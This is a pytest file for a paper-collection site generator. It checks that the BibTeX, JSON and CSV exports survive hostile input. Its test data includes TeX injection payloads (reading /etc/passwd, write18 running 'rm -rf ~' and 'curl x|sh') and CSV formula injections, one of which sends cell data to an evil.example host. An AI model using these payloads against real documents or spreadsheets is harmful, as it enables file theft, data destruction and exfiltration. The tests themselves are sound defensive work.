"""Downloads (BibTeX, JSON, CSV), parsed back with real parsers and compared with the records."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
from pathlib import Path
from urllib.parse import unquote

import bibtexparser
import jsonschema
import pytest

from generator.model.papers import Collection, Paper
from generator.records.collection import load_collection
from generator.site import bibtex, exports, pages
from generator.site.context import Context, site_settings
from generator.site.render import Renderer
from generator.write.build import generate
from tests.tools.bibtext import inert, names_of, text_of


def parse_bib(text: str) -> bibtexparser.Library:
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    return library


def field(entry: bibtexparser.model.Entry, name: str) -> str:
    value: str = entry.fields_dict[name].value
    return value


def paper(**changes: object) -> Paper:
    base = Paper(id="x", title="A title", abstract="An abstract.", topics=("t",),
                 added="2026-01-01", source=Path("x.yaml"))
    return dataclasses.replace(base, **changes)  # type: ignore[arg-type]


# --- bibtex.py -------------------------------------------------------------------------

def test_escape_keeps_unicode_and_math_and_escapes_tex() -> None:
    assert bibtex.escape("Nørgaard: R&D at 100% for a_b #1 ~x^y, {c} $x^2$ \\ end") == (
        r"Nørgaard: R\&D at 100\% for a\_b \#1 \~{}x\^{}y, \textbraceleft{}c\textbraceright{}"
        r" $x^2$ \textbackslash{} end")


def test_escape_reads_tex_escapes_of_arxiv_abstracts_as_the_plain_character() -> None:
    assert bibtex.escape(r"100\% recall on R\&D") == r"100\% recall on R\&D"
    assert bibtex.escape(r"costs \$5 and \$10, $x$") == r"costs \$5 and \$10, $x$"


def test_unbalanced_math_is_escaped_as_text() -> None:
    assert bibtex.escape("$a}$ b") == r"\$a\textbraceright{}\$ b"


def test_protect_capitals_leaves_punctuation_outside_the_braces() -> None:
    assert bibtex.protect_capitals('SkillMimic: LLM-based "GPT-4" Skills (ReLU) 3D') == (
        '{SkillMimic}: {LLM-based} "{GPT-4}" Skills ({ReLU}) {3D}')


@pytest.mark.parametrize(("venue", "kind", "venue_field"), [
    (None, "misc", None),
    ("LREC 2022", "inproceedings", "booktitle"),
    ("IEEE Robotics and Automation Letters", "article", "journal"),
    ("ACM Transactions on Graphics", "article", "journal"),
])
def test_entry_type_follows_the_venue(venue: str | None, kind: str,
                                      venue_field: str | None) -> None:
    entry = parse_bib(bibtex.entry(paper(venue=venue, arxiv="2408.15270"), "k")).entries[0]
    assert entry.entry_type == kind
    assert field(entry, "eprint") == "2408.15270"
    if venue_field:
        assert field(entry, venue_field) == venue


def test_hostile_values_parse_as_one_entry() -> None:
    hostile = paper(title="Closing } brace, @misc{evil, 50% off} & more",
                    authors=("Ana {Bad", "Bob} Good"), abstract="a } b { c % d @article{x,",
                    venue="Conf } 2024", doi="10.1000/a_b}{c%d", links={"paper": "https://x.org/{a}"})
    library = parse_bib(bibtex.entry(hostile, "k", abstract=True))
    assert len(library.entries) == 1
    assert field(library.entries[0], "title").startswith(
        r"Closing \textbraceright{} brace, @misc\textbraceleft{}evil, 50\% off")
    assert field(library.entries[0], "doi") == "10.1000/a_b%7D%7Bc%25d"
    assert field(library.entries[0], "url") == "https://doi.org/10.1000/a_b%7D%7Bc%25d"


@pytest.mark.parametrize("math", [
    r"$\input{/etc/passwd}$", r"$\immediate\write18{rm -rf ~}$", r"$\catcode`\@=11$",
    r"$\def\x{y}$", r"$^^5cinput{/etc/passwd}$", r"$x % comment$", r"$a & b$", r"$#1$",
    r"$\\input x$", r"$\csname input\endcsname$",
])
def test_math_that_could_run_tex_is_written_as_text(math: str) -> None:
    """Issue 12, class 4: only harmless math reaches the reader's LaTeX as TeX."""
    record = paper(title=f"T {math}", abstract=f"A {math} b", venue=f"V {math}",
                   authors=(f"N {math}",))
    entry = parse_bib(bibtex.entry(record, "k", abstract=True)).entries[0]
    for name in ("title", "abstract", "booktitle", "author"):
        value = field(entry, name)
        assert "$" not in value.replace("\\$", ""), (name, value)
        assert not re.search(r"\\(?!textbackslash\{\}|textbrace(left|right)\{\}|[%&#_$^~])",
                             value), (name, value)
        assert text_of(value).endswith(math + (" b" if name == "abstract" else ""))


def test_the_cite_block_and_every_bib_file_write_tex_injection_as_text(
        toy_project: Path) -> None:
    """The paper page's Cite block and the paper, topic and collection .bib files all
    come from one entry: none of them carries the record's TeX to the reader's LaTeX."""
    collection, _ = load_collection(toy_project)
    evil = dataclasses.replace(
        collection.papers["nnose"], title=r"Skills $\input{/etc/passwd}$",
        abstract=r"See $\immediate\write18{curl x|sh}$ and $\catcode`\^^M=13$.",
        authors=("Procter and Gamble Research Lab", "Doe, Jane"),
        doi=r"10.1000/x}\input{y}%")
    ctx = Context(toy_project, Collection({"nnose": evil}, collection.topics),
                  Renderer(**site_settings(toy_project)))
    files = dict(exports.bib_files(ctx))
    page = dict(pages.paper_pages(ctx))["papers/nnose.md"]
    cite = html.unescape(str(page).split('<div class="paper-bibtex', 1)[1]
                         .split("<code>", 1)[1].split("</code>", 1)[0])
    for text in [cite, *(str(files[name]) for name in (
            "papers.bib", "papers/nnose.bib", "topics/skill-extraction.bib"))]:
        entry = parse_bib(text).entries[0]
        values = {name: f.value for name, f in entry.fields_dict.items()}
        assert all(inert(values[name]) for name in values
                   if name in ("title", "author", "abstract")), values
        assert text_of(values["title"]) == evil.title
        assert names_of(values["author"]) == list(evil.authors)
        assert unquote(values["doi"]) == evil.doi
        assert not re.search(r"\\(input|immediate|write|catcode)", text)
        if "abstract" in values:
            assert text_of(values["abstract"]) == evil.abstract


@pytest.mark.parametrize("math", [
    "$N^k$", r"$\mathcal{O}(n^2)$", r"$\sum_{i=1}^n i$", "$x^2 < y$",
    r"$\alpha \leq \frac{1}{2}$", r"$\{a, b\} \in \mathbb{R}^{d}$", r"$\sim 0.1$",
])
def test_harmless_math_stays_tex(math: str) -> None:
    assert bibtex.escape(f"cost {math} here") == f"cost {math} here"
    assert bibtex.protect_capitals(f"A {math} LLM") == f"A {math} {{LLM}}"


def test_math_words_are_not_braced_as_capitals() -> None:
    assert bibtex.protect_capitals(r"$a XY b$ in GPT") == r"$a XY b$ in {GPT}"


@pytest.mark.parametrize(("authors", "names"), [
    (("Procter and Gamble Research Lab", "Ana Li"),
     "{Procter and Gamble Research Lab} and Ana Li"),
    (("Doe, Jane",), "{Doe, Jane}"),
    (("others",), "{others}"),
    (("Research AND Development",), "{Research AND Development}"),
    (("Anderson Andy", "Sandy Band"), "Anderson Andy and Sandy Band"),
])
def test_an_author_stays_one_author(authors: tuple[str, ...], names: str) -> None:
    entry = parse_bib(bibtex.entry(paper(authors=authors), "k")).entries[0]
    assert field(entry, "author") == names
    assert names_of(field(entry, "author")) == list(authors)
    assert bibtexparser.middlewares.names.split_multiple_persons_names(
        field(entry, "author")) == [bibtex.name(a) for a in authors]


@pytest.mark.parametrize(("doi", "written"), [
    (r"10.1000/a\input{x}", "10.1000/a%5Cinput%7Bx%7D"),
    ("10.1000/50%#1&2~$^", "10.1000/50%25%231%262%7E%24%5E"),
])
def test_doi_is_percent_encoded_where_tex_would_read_it(doi: str, written: str) -> None:
    entry = parse_bib(bibtex.entry(paper(doi=doi), "k")).entries[0]
    assert field(entry, "doi") == written and unquote(written) == doi
    assert field(entry, "url") == f"https://doi.org/{written}"


@pytest.mark.parametrize(("url", "written"), [
    (r"https://x.org/a\input{b}^^5c", "https://x.org/a%5Cinput%7Bb%7D%5E%5E5c"),
    ("https://x.org/a%20b?q=1&r=2#frag", "https://x.org/a%20b?q=1&r=2#frag"),
    ("https://x.org/100%", "https://x.org/100%25"),
])
def test_url_keeps_its_meaning_without_tex_specials(url: str, written: str) -> None:
    entry = parse_bib(bibtex.entry(paper(links={"paper": url}), "k")).entries[0]
    assert field(entry, "url") == written and unquote(written) == unquote(url)


def keyed(papers: list[Paper]) -> dict[str, str]:
    return bibtex.citation_keys(Collection({p.id: p for p in papers}, {}))


def test_colliding_keys_keep_the_first_added_bare() -> None:
    old = paper(id="b-old", authors=("Mike Zhang",), year=2024, title="Skill extraction",
                added="2026-01-01")
    new = paper(id="a-new", authors=("Lei Zhang",), year=2024, title="Skill graphs",
                added="2026-02-01")
    assert keyed([old]) == {"b-old": "zhang2024skill"}
    assert keyed([old, new]) == {"a-new": "zhang2024skillb", "b-old": "zhang2024skill"}


def test_keys_stay_unique_when_a_suffix_is_taken() -> None:
    papers = [paper(id=f"p{i}", authors=("A Li",), year=2020, title=title, added=f"2026-01-0{i}")
              for i, title in enumerate(["Skill", "Skill again", "Skillb"], start=1)]
    keys = keyed(papers)
    assert keys == {"p1": "li2020skill", "p2": "li2020skillc", "p3": "li2020skillb"}


def test_surname_skips_suffixes_and_reads_last_first() -> None:
    assert bibtex.base_key(paper(authors=("Martin Luther King Jr.",), year=1999)) == (
        "king1999title")
    assert bibtex.base_key(paper(authors=("Nørgaard, Kristian",))) == "norgaardtitle"


# --- the files of a built site -----------------------------------------------------------

def test_collection_bib_holds_every_paper(toy_project: Path, toy_site: Path) -> None:
    collection, _ = load_collection(toy_project)
    keys = bibtex.citation_keys(collection)
    library = parse_bib((toy_site / "papers.bib").read_text(encoding="utf-8"))
    by_key = {entry.key: entry for entry in library.entries}
    assert len(library.entries) == len(collection.papers) == len(by_key)
    assert sorted(by_key) == sorted(keys.values())
    for paper_id, key in keys.items():
        record = collection.papers[paper_id]
        authors = " and ".join(record.authors)
        assert field(by_key[key], "author") == authors
    assert "Kristian Nørgaard Jensen" in field(by_key["zhang2022kompetencer"], "author")
    assert field(by_key["zhang2024nnose"], "abstract").endswith(
        r"job postings \& résumés to extract <skills> at 100\% recall.")
    assert field(by_key["wang2024skillmimic"], "title") == (
        "{SkillMimic}: Learning Reusable Basketball Skills from Demonstrations")


def test_every_paper_and_topic_has_its_bib(toy_project: Path, toy_site: Path) -> None:
    collection, _ = load_collection(toy_project)
    keys = bibtex.citation_keys(collection)
    for paper_id, key in keys.items():
        library = parse_bib((toy_site / "papers" / f"{paper_id}.bib").read_text("utf-8"))
        assert [entry.key for entry in library.entries] == [key]
        page = (toy_site / "papers" / paper_id / "index.html").read_text("utf-8")
        assert f'href="../{paper_id}.bib"' in page
        shown = parse_bib(html.unescape(re.sub(r"<[^>]+>", "", page.split(
            '<div class="paper-bibtex', 1)[1].split("</code>", 1)[0].split(">", 1)[1])))
        assert [e.key for e in shown.entries] == [key]
        assert "abstract" not in shown.entries[0].fields_dict
    for key, members in collection.papers_by_topic().items():
        library = parse_bib((toy_site / "topics" / f"{key}.bib").read_text("utf-8"))
        assert sorted(e.key for e in library.entries) == sorted(keys[p.id] for p in members)
        page = (toy_site / "topics" / key / "index.html").read_text("utf-8")
        assert f'href="../{key}.bib"' in page and f'href="../{key}.xml"' in page


def test_collection_downloads_are_linked(toy_site: Path) -> None:
    home = (toy_site / "index.html").read_text("utf-8")
    listing = (toy_site / "papers" / "index.html").read_text("utf-8")
    for name in ("papers.bib", "papers.json", "papers.csv", "feed.xml"):
        assert f'href="{name}"' in home
        assert f'href="../{name}"' in listing


EXPECTED_FIELDS = {"id", "title", "short_name", "authors", "people", "year", "month", "venue",
                   "arxiv", "doi", "topics", "topic_titles", "links", "added", "abstract",
                   "citation_key", "url", "bibtex_url", "arxiv_url", "pdf_url", "doi_url",
                   "source"}


def test_json_holds_every_field_of_every_paper(toy_project: Path, toy_site: Path) -> None:
    collection, _ = load_collection(toy_project)
    data = json.loads((toy_site / "papers.json").read_text(encoding="utf-8"))
    schema = json.loads((toy_site / "papers.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(schema).validate(data)
    assert data["schema_version"] == 1
    assert data["counts"] == {"papers": 4, "topics": 2}
    assert data["updated"] == "2026-11-28"
    assert [p["id"] for p in data["papers"]] == list(collection.papers)
    for item in data["papers"]:
        assert set(item) == EXPECTED_FIELDS
        record = collection.papers[item["id"]]
        assert item["title"] == record.title and item["abstract"] == record.abstract
        assert item["authors"] == list(record.authors) and item["topics"] == list(record.topics)
        assert item["year"] == record.year and item["links"] == dict(record.links)
        assert item["url"] == f"https://skill-papers.github.io/skill-papers/papers/{record.id}/"
        people = collection.authors[record.id]
        assert [p["name"] for p in item["people"]] == [p.name for p in people]
        for person in item["people"]:
            assert person["url"].startswith("https://skill-papers.github.io/skill-papers/authors/")
            assert person["url"].endswith(f"/#{person['key']}")
    nnose = next(p for p in data["papers"] if p["id"] == "nnose")
    assert (nnose["year"], nnose["month"]) == (2024, 1)  # derived from the arXiv id
    assert nnose["topic_titles"] == ["Occupational skill extraction"]
    assert [t["key"] for t in data["topics"]] == list(collection.topics)
    assert [t["papers"] for t in data["topics"]] == [2, 2]


def test_csv_has_a_row_for_every_paper(toy_project: Path, toy_site: Path) -> None:
    collection, _ = load_collection(toy_project)
    text = (toy_site / "papers.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(exports.CSV_COLUMNS)
    assert [row["id"] for row in rows] == list(collection.papers)
    for row in rows:
        record = collection.papers[row["id"]]
        assert row["authors"].split("; ") == list(record.authors)
        assert row["abstract"] == record.abstract and row["title"] == record.title
        assert row["topics"].split("; ") == list(record.topics)
        assert row["link_code"] == record.links.get("code", "")
        assert row["year"] == str(record.year)


@pytest.mark.parametrize(("text", "cell"), [
    ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("'quoted' title", "''quoted' title"), ("A = B", "A = B"), ("", ""),
    ("line\rbreak", "line\rbreak"), ("two\nlines", "two\nlines"),
])
def test_csv_cells_that_start_like_formulas_get_a_quote(text: str, cell: str) -> None:
    """Issue 12, class 5 (OWASP CSV injection); the JSON keeps the text exactly."""
    assert exports.csv_cell(text) == cell
    record = {column: "" for column in exports.CSV_COLUMNS} | {
        "title": text, "authors": [text, "B"], "links": {"code": text}, "year": None,
        "people": [{"name": text, "orcid": None}, {"name": "B", "orcid": "0000-0002-1825-0097"}]}
    row = next(csv.DictReader(io.StringIO(exports.csv_export([record]), newline="")))
    assert row["title"] == row["authors"].removesuffix("; B") == row["link_code"] == cell
    assert row["author_names"].removesuffix("; B") == cell
    assert row["author_orcids"] == "; 0000-0002-1825-0097"
    assert json.loads(json.dumps(record))["title"] == text


def test_exports_are_byte_identical_between_builds(toy_project: Path, tmp_path: Path) -> None:
    generate(toy_project, docs=tmp_path / "one")
    generate(toy_project, docs=tmp_path / "two")
    for name in ("papers.bib", "papers.json", "papers.csv", "feed.xml",
                 "topics/humanoid-skills.xml", "papers/nnose.bib"):
        assert (tmp_path / "one" / name).read_bytes() == (tmp_path / "two" / name).read_bytes()


def test_seed_exports_hold_every_record(seed_project: Path, seed_site: Path) -> None:
    collection, _ = load_collection(seed_project)
    library = parse_bib((seed_site / "papers.bib").read_text(encoding="utf-8"))
    assert len({e.key for e in library.entries}) == len(collection.papers)
    data = json.loads((seed_site / "papers.json").read_text(encoding="utf-8"))
    assert [p["id"] for p in data["papers"]] == list(collection.papers)
    rows = list(csv.DictReader(io.StringIO((seed_site / "papers.csv").read_text("utf-8"))))
    assert [row["id"] for row in rows] == list(collection.papers)
